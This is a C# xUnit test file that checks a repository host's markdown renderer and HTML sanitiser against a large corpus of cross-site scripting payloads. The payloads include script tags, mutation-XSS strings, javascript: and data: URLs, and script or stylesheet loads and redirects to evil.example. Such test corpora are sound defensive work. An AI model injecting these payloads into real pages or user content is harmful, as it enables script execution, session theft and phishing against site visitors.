using System.Text;
using AngleSharp.Html.Parser;
using RepoHost.Pages.Markup;
using Xunit;

namespace RepoHost.Tests.Pages.Markup;

/// <summary>Threat row 36: whatever a card says, it is text and harmless markup on the page.</summary>
public sealed class HostileTextTests
{
    public static TheoryData<string> Corpus =>
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script",
        "<script>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script/x>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\" onload=alert(2)>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<img src=javascript:alert(1)>",
        "<img src=\"data:text/html,<script>alert(1)</script>\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](javascript:alert(1))",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href=\"blob:http://x/y\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/\\evil.example\">x</a>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"http:evil.example\">x</a>",
        "<a href=//evil.example target=_blank ping=/logout download>x</a>",
        "<a href=\"http://x\" onclick=alert(1) style=position:fixed;inset:0>x</a>",
        "<a href=x:y/../../z onfocus=alert(1) autofocus tabindex=1>x</a>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<http://x\" onmouseover=\"alert(1)>",
        "[a](http://x\"onmouseover=alert(1))",
        "[a](http://x 'title\" onmouseover=\"alert(1)')",
        "![a\" onerror=\"alert(1)](x.png)",
        "http://x.example/\"onmouseover=alert(1)",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<style>*{display:none}</style>",
        "<style>@import 'http://evil.example/x.css';",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
        "<base href=http://evil.example/>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=x.svg><embed src=x.swf>",
        "<form action=/logout method=post><button>x</button><input name=csrf></form>",
        "<input type=image src=x onerror=alert(1)><input type=checkbox onclick=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<plaintext><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)><html><head>",
        "<frameset onload=alert(1)>",
        "<p id=main>x</p><a name=main id=after>y</a><img name=getElementById src=x.png>",
        "<p id=announcements role=alert aria-live=assertive data-copy-text=x data-form=login>x</p>",
        "<div class=\"skip account menu\" hidden contenteditable>x</div>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!-- <script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "</div></main></body></html><script>alert(1)</script>",
        "</p></div></div></main><h1>Log in again</h1>",
        "<table><tr><td></div></main><script>alert(1)</script>",
        "<table><script>alert(1)</script><form></table>",
        "<select><option><img src=x onerror=alert(1)></option></select>",
        "<b><p><b><p><a href=x><table><a href=y>",
        "<a href=x><a href=y><a href=z>",
        "<a title=\"<img src=x onerror=alert(1)>\" href=x>",
        "<a href=\"x\"title='a\"b'>&lt;img src=x onerror=alert(1)&gt;</a>",
        "`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script></code></pre><script>alert(2)</script>\n```",
        "```\"><script>alert(1)</script>\nx\n```",
        "# <img src=x onerror=alert(1)>\n\n# \"><script>alert(1)</script>\n\n# `</h2><script>alert(1)</script>`",
        "|a|<script>|\n|-|-|\n|<img src=x onerror=alert(1)>|</table><script>alert(1)</script>|",
        "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
        "> [!NOTE]\n> <svg onload=alert(1)>",
        "- [x] <img src=x onerror=alert(1)>",
        "<x-y onclick=alert(1)>custom</x-y>",
        "<a\u0000href=javascript:alert(1)>x</a><img\u0000src=x\u0000onerror=alert(1)>",
        "<\u0000script>alert(1)</script>",
        "\u2028<script>alert(1)</script>\u202e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<picture><source srcset=\"x onerror=alert(1)\"><img src=a.png srcset=\"http://evil.example/x 2x\" sizes=1 usemap=#m></picture>",
        "<map name=m><area href=javascript:alert(1)></map>",
        "<a href=\"https://ok.example/&#x22;&gt;&lt;script&gt;\">x</a>",
        "<ol start=\"1;alert(1)\" type=x><li value=javascript:1>x</ol>",
        "<td width=\"expression(alert(1))\" background=javascript:alert(1)>",
        "<img src=/logout><img src=/acme/tiny/settings.png><img src=//evil.example/a/resolve/x.png><img src=/\\evil.example/resolve/a.png>",
        "<font color=\"red\" face='x\" onmouseover=alert(1)'>x</font>",
        "<a href='mailto:a@b.example?subject=<script>'>m</a>",
        "<svg/onload=alert(1)//",
        "<img src=`x`onerror=alert(1)>",
        "<a href=\"javas\u00adcript:alert(1)\">x</a>",
        "<a href=\"ja\u0000vascript:alert(1)\">x</a>",
        "<a href=\"&Tab;javascript&colon;alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    ];

    [Theory]
    [MemberData(nameof(Corpus))]
    public void What_is_hostile_is_harmless(string markdown)
    {
        Rendering.IsSafe(Rendering.Of(markdown).Html);
        Rendering.IsSafe(Rendering.Of($"some *text* before\n{markdown}\nand after").Html);
        Rendering.IsSafe(Rendering.Of($"- a list\n  {markdown}\n\n> a quotation {markdown}\n\n<div align=center>\n\n{markdown}\n\n</div>").Html);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void The_pass_before_the_sanitiser_is_safe_by_itself(string markdown)
    {
        var html = MarkdownText.ToHtml(markdown, TimeSpan.FromSeconds(10));
        Rendering.IsSafe(MarkupCleaner.Clean(html, Rendering.Links()).Html);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void The_sanitiser_lets_nothing_run_by_itself(string markdown)
    {
        var elements = new HtmlParser().ParseDocument(SafeHtml.Of(MarkdownText.ToHtml(markdown, TimeSpan.FromSeconds(10)))).Body!.QuerySelectorAll("*");
        Assert.DoesNotContain(elements, e => Rendering.Forbidden.Contains(e.LocalName));
        Assert.DoesNotContain(elements.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.Ordinal) || a.Name is "style" or "srcdoc" or "action"
            || (a.Name is "href" or "src" && a.Value.Contains("script:", StringComparison.OrdinalIgnoreCase)));
    }

    /// <summary>Pieces of tags, thrown together: what no one thought of.</summary>
    [Fact]
    public void Soups_of_tags_are_harmless_and_read_the_same_by_every_parser()
    {
        string[] pieces =
        [
            "<", ">", "</", "/>", "\"", "'", "=", " ", "\n", "<!--", "-->", "<![CDATA[", "]]>", "&lt;", "&#60;", "`", "```\n", "*", "|", "#", "[", "](", ")", "a", "b", "p", "div", "table", "tr", "td", "svg", "math", "style",
            "script", "title", "textarea", "noscript", "iframe", "img", "src", "href", "onerror", "javascript:", "mtext", "mglyph", "annotation-xml", "foreignObject", "desc", "form", "select", "option", "template", "x", "\0", "id", "class", "alert(1)",
            "<p>", "<b>", "<a href=x>", "</a>", "<table>", "</table>", "<td>", "<li>", "<details>", "<h1>", "</h1>", "<svg>", "<math>", "<style>", "</style>", "<img src=a.png>", "<br>", "<pre>", "<code>", "</p>", "</b>", "<i title=\"", "<caption>", "<ruby>", "<rt>", "<dd>",
        ];
        for (var seed = 0; seed < 3000; seed++)
        {
            var text = new StringBuilder();
            for (var i = 0; i < 40; i++)
                text.Append(pieces[Next(seed, i) % pieces.Length]);
            var html = Rendering.Of(text.ToString()).Html;
            Rendering.IsSafe(html);
            Assert.Equal(Rendering.Dom(html).InnerHtml, Rendering.Dom(Rendering.Dom(html).InnerHtml).InnerHtml);
        }
    }

    [Fact]
    public void Ids_of_a_text_are_never_those_of_the_page()
    {
        var dom = Rendering.Dom(Rendering.Of("<a id=main name=main></a>\n\n# Main\n\n# Main\n\n<h2 id=main>x</h2>\n\n[^1]\n\n[^1]: note").Html);
        var ids = dom.QuerySelectorAll("[id]").Select(e => e.Id!).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
        Assert.All(ids, id => Assert.StartsWith("card-", id, StringComparison.Ordinal));
    }

    /// <summary>The same soup in every run.</summary>
    private static int Next(int seed, int at)
    {
        var x = unchecked(((uint)seed * 2_654_435_761u) ^ ((uint)at * 2_246_822_519u));
        x ^= x >> 15;
        x = unchecked(x * 3_266_489_917u);
        return (int)((x ^ (x >> 13)) & 0x7fffffff);
    }
}
